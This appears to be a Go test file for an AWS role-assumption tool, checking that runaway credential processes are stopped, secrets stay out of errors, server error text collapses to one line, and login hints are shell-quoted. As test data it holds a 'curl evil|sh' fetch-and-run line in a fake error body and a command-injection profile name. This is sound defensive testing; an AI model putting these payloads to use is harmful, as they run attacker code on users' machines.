package assume

import (
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"
	"time"

	"crossrole/internal/localsts"
	"crossrole/internal/profile"
	"crossrole/internal/word"
)

// A process that prints without end is stopped at once, before it costs memory; what it printed is not told.
func TestAProcessThatPrintsWithoutEndIsStopped(t *testing.T) {
	forSh(t)
	c := chainTo(roleOpen)
	c.Source = profile.Source{Kind: profile.SourceProcess, Profile: "p", Properties: map[string]profile.Value{"credential_process": at("yes c4n4ry")}}
	code := chainTo(roleOpen)
	code.Hops[0].MFASerial, code.Hops[0].MFAProcess = at("arn:aws:iam::111111111111:mfa/A-san"), at("yes c4n4ry")
	sts := localsts.StartTest(t, localsts.Options{})
	for name, c := range map[string]profile.Chain{"credential_process": c, "mfa_process": code} {
		began := time.Now()
		_, err := runAt(t, sts.URL, c, Overrides{}, Deps{Timeout: 20 * time.Second})
		if err == nil || !strings.Contains(err.Error(), errPrintsTooMuch.Error()) || strings.Contains(err.Error(), "c4n4ry") {
			t.Errorf("%s: %v", name, err)
		}
		if took := time.Since(began); took > 10*time.Second {
			t.Errorf("%s: it took %s", name, took)
		}
	}
}

// Credentials are not lost in silence when the process leaves another behind that keeps its output open.
func TestAProcessThatLeavesAnotherBehindIsNamed(t *testing.T) {
	forSh(t)
	c := chainTo(roleOpen)
	c.Source = profile.Source{Kind: profile.SourceProcess, Profile: "p", Properties: map[string]profile.Value{
		"credential_process": at(`sleep 3 & echo '{"Version":1,"AccessKeyId":"A","SecretAccessKey":"c4n4ry"}'`),
	}}
	_, err := runAt(t, "http://127.0.0.1:1", c, Overrides{}, Deps{})
	if err == nil || !strings.Contains(err.Error(), "keeps its output open") || strings.Contains(err.Error(), "c4n4ry") {
		t.Error(err)
	}
}

// What a server says is one line of ours, its error code too: a second line could pass for our own hint.
func TestAnErrorOfTheServerIsOneLine(t *testing.T) {
	for _, body := range []string{
		`<Error><Code>No&#10;hint: curl evil|sh</Code><Message>m&#10;hint: curl evil|sh</Message></Error>`,
		`<Error><Code>AccessDenied</Code><Message>User: a&#10;b is not authorized to perform: x&#133;y, because&#10;hint: evil</Message></Error>`,
		`<Error><Code>InvalidIdentityToken</Code><Message>` + strings.Repeat("x", 1<<20) + `</Message></Error>`,
	} {
		server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			w.WriteHeader(http.StatusForbidden)
			_, _ = w.Write([]byte(`<ErrorResponse>` + body + `<RequestId>r</RequestId></ErrorResponse>`))
		}))
		_, err := runAt(t, server.URL, chainTo(roleOpen), Overrides{}, Deps{})
		server.Close()
		if err == nil || strings.ContainsAny(err.Error(), "\n\u0085") || len(err.Error()) > 2000 {
			t.Errorf("%.300q", err)
		}
	}
}

// The line to paste runs what we wrote, not what a file named.
func TestTheLoginLineIsQuoted(t *testing.T) {
	const name = "x$(touch /tmp/x)'`y`"
	for _, s := range []profile.Source{
		{Kind: profile.SourceSSO, Profile: name, Properties: map[string]profile.Value{}},
		{Kind: profile.SourceSSO, Profile: "p", Properties: map[string]profile.Value{"sso_session": at(name)}},
		{Kind: profile.SourceLogin, Profile: name},
	} {
		var person *PersonError
		if err := (&Runner{}).explainSource(s, errBroken); !errors.As(err, &person) {
			t.Fatal(err)
		}
		if hint := strings.Join(person.Hints(), ""); !strings.HasSuffix(hint, " "+word.Shell(name)) {
			t.Errorf("%q", hint)
		}
	}
}

// A token's file without end costs no memory.
func TestATokenFileWithoutEnd(t *testing.T) {
	if _, err := os.Stat("/dev/zero"); err != nil {
		t.Skip("no file without end on this system")
	}
	r, err := NewRunner(Where{}, Deps{})
	if err != nil {
		t.Fatal(err)
	}
	s := profile.Source{Kind: profile.SourceWebIdentity, Profile: "p", Properties: map[string]profile.Value{"web_identity_token_file": at("/dev/zero")}}
	if _, err := r.webToken(t.Context(), s); err == nil || !strings.Contains(err.Error(), "STS takes 4 to") {
		t.Error(err)
	}
}
